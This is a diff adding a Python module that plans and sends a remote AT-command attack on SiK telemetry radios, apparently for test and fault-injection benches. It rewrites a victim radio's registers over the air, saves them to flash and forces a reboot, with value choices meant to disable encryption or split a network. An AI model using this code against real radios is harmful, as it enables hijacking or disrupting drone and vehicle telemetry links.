@@ -1,0 +1,133 @@
+"""A rogue radio's remote AT attack on one register, and how to tell it landed.
+
+Theory of operation
+-------------------
+Any SiK radio in range runs the ``RT`` commands it hears. A rogue's host puts its
+own radio in command mode and sends, for one register ``Sn``:
+
+* ``RTSn=v``: the victim's RAM (what ``ATI5`` shows) takes ``v``; a register the
+  firmware applies at once (TXPOWER, DUTY_CYCLE, LBT_RSSI, MAVLINK, RTSCTS,
+  OPPRESEND, and in multipoint NODEID, NODEDESTINATION, SYNCANY, NODECOUNT: SiK's
+  ``param_set``) changes the running radio there and then;
+* ``RT&W``: the victim saves it to flash;
+* ``RTZ``: the victim reboots and runs with it (the other registers).
+
+In multipoint every line carries ``,<node>``, the victim's node id; after an attack
+on NODEID itself (which applies at once) the victim answers to the new id, so
+``RT&W`` and ``RTZ`` are addressed to it. ``RT`` lines are unacknowledged over the
+air: the rogue repeats ``RTSn=`` until the victim answers ``OK`` (or gives up after
+``tries``), sends ``RT&W`` likewise, and ``RTZ`` (never answered) ``tries`` times.
+
+Pure part: :func:`plan_attack` chooses, for a register and the victim's current
+values, a value the firmware accepts as it is (no rewrite on set or at boot, so
+the victim shows exactly that value) and that differs from the current one, and
+the ``RT`` lines; :func:`landed` says whether a victim's values show it. I/O part:
+:func:`send_attack` sends a plan through a rogue's :class:`SikConfigurator`
+already in command mode. Tests and ``swarm bench faults`` both use these.
+"""
+
+from __future__ import annotations
+
+import contextlib
+from collections.abc import Mapping
+from dataclasses import dataclass
+
+from radios.errors import ATError, ConfigError
+from radios.sik.config import SikConfigurator, strip_node
+from radios.sik.params import spec_for, validate_user_value
+
+#: per register, values a rogue writes (the first that differs from the victim's is
+#: used): each is accepted and shown as it is by the firmware (915 MHz band, HM-TRP)
+CANDIDATES: dict[str, tuple[int, ...]] = {
+    "SERIAL_SPEED": (115, 38),
+    "AIR_SPEED": (128, 32),
+    "NETID": (77, 78),
+    "TXPOWER": (1, 2),
+    "ECC": (1, 0),
+    "MAVLINK": (0, 1),
+    "OPPRESEND": (1, 0),
+    "MIN_FREQ": (916000, 917000),
+    "MAX_FREQ": (927000, 926000),
+    "NUM_CHANNELS": (20, 10),
+    "DUTY_CYCLE": (10, 20),
+    "LBT_RSSI": (50, 60),
+    "MANCHESTER": (1, 0),
+    "RTSCTS": (1, 0),
+    "MAX_WINDOW": (33, 50),
+    "NODEID": (0, 1),  # node 0 is the base: a second base splits the network's sync
+    "NODEDESTINATION": (0, 1),
+    "SYNCANY": (1, 0),
+    "ENCRYPTION_LEVEL": (1, 0),
+}
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One register changed over the air: what the victim will show, and the lines."""
+
+    name: str
+    value: int
+    set_line: str  # RTSn=v[,node]
+    save_line: str  # RT&W[,node]
+    reboot_line: str  # RTZ[,node]
+    applies_now: bool  # the running radio changes at RTSn=, without a reboot
+
+
+def plan_attack(flavour: str, name: str, current: Mapping[str, int], node: int | None = None) -> Attack:
+    """The attack on register ``name`` of a victim whose values are ``current`` (its
+    ``ATI5``; NODEID and NODECOUNT matter in multipoint), as node ``node`` (multipoint;
+    None: every radio that hears it). Raises :class:`ConfigError` for a register the
+    firmware does not have or no candidate value that differs."""
+    spec = spec_for(flavour, name)
+    now = current.get(spec.name)
+    if spec.name == "NODECOUNT":
+        options: tuple[int, ...] = ((now or 2) + 1,)
+    else:
+        options = CANDIDATES.get(spec.name, ())
+    value = None
+    for option in options:
+        if option == now:
+            continue
+        if spec.name == "NODEDESTINATION" and option == current.get("NODEID"):
+            continue  # the firmware refuses a destination equal to the node's own id
+        if spec.name == "NODEID" and option >= current.get("NODECOUNT", 2):
+            continue
+        value = validate_user_value(flavour, spec.name, option)
+        break
+    if value is None:
+        raise ConfigError(f"no attack value for {spec.name} (the victim shows {now})")
+    suffix = "" if node is None else f",{node}"
+    after = f",{value}" if spec.name == "NODEID" and node is not None else suffix
+    return Attack(
+        spec.name,
+        value,
+        f"RTS{spec.index}={value}{suffix}",
+        f"RT&W{after}",
+        f"RTZ{after}",
+        spec.applies == "now",
+    )
+
+
+def landed(values: Mapping[str, int], attack: Attack) -> bool:
+    """Whether a victim's register values show the attack's value."""
+    return values.get(attack.name) == attack.value
+
+
+def send_attack(conf: SikConfigurator, attack: Attack, tries: int = 5, reboot: bool = True) -> bool:
+    """Send ``attack`` through the rogue's radio (``conf`` in command mode, local).
+    Returns whether the victim answered ``OK`` to both ``RTSn=`` and ``RT&W``; ``RTZ``
+    (``reboot``) is sent ``tries`` times whatever happened, as a rogue would. Raises
+    :class:`~radios.errors.LinkClosedError` if the rogue's own port fails."""
+    answered = 0
+    for line in (attack.set_line, attack.save_line):
+        for _ in range(tries):
+            with contextlib.suppress(ATError):
+                reply = conf.command(line, timeout=1.5)
+                if "OK" in (strip_node(r) for r in reply):
+                    answered += 1
+                    break
+    if reboot:
+        for _ in range(tries):
+            with contextlib.suppress(ATError):
+                conf.command(attack.reboot_line, timeout=0.3)
+    return answered == 2
